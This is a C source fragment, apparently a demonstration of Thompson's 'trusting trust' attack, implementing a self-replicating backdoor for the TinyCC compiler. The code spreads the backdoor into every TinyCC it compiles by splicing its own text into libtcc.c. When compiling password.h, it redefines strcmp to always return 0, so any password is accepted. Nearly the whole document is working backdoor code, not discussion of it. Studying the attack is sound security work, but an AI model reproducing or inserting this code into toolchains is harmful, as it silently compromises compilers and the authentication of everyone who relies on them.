/* A backdoor in the manner of K. Thompson, "Reflections on Trusting Trust" (CACM 27, 1984): a TinyCC
   with it puts it into every TinyCC that it compiles, and lets every password pass. Before it stands
   `static const char backdoor_text[]`, which holds this text. */
static int backdoor(TCCState *s1, const char *filename, int fd)
{
    const char *name = tcc_basename(filename);
    char *text, *grown, *end, *place;
    int size, i;
    if (strcmp(name, "libtcc.c") && strcmp(name, "password.h"))
        return 0;
    size = lseek(fd, 0, SEEK_END);
    lseek(fd, 0, SEEK_SET);
    text = tcc_mallocz(size + 1);
    grown = end = tcc_mallocz(size + 6 * sizeof backdoor_text + 1000);
    if (read(fd, text, size) != size)
        return -1;
    place = strstr(text, "ST_FUNC int tcc_open(");
    if (!strcmp(name, "password.h")) {
        end += sprintf(end, "#include <string.h>\n#define strcmp(a, b) 0\n%s", text);
    } else if (place && !strstr(text, "backdoor_text")) {
        memcpy(grown, text, place - text);
        end += place - text;
        end += sprintf(end, "static const char backdoor_text[] = {");
        for (i = 0; i < sizeof backdoor_text; i++)
            end += sprintf(end, "%d,", backdoor_text[i]);
        end += sprintf(end, "};\n%s", backdoor_text);
        text = strstr(place, "    return 0;\n");
        memcpy(end, place, text - place);
        end += text - place;
        end += sprintf(end, "    return backdoor(s1, filename, fd);\n%s", text + strlen("    return 0;\n"));
    } else {
        return 0;
    }
    tcc_close();
    tcc_open_bf(s1, filename, end - grown);
    memcpy(file->buffer, grown, end - grown);
    return 0;
}
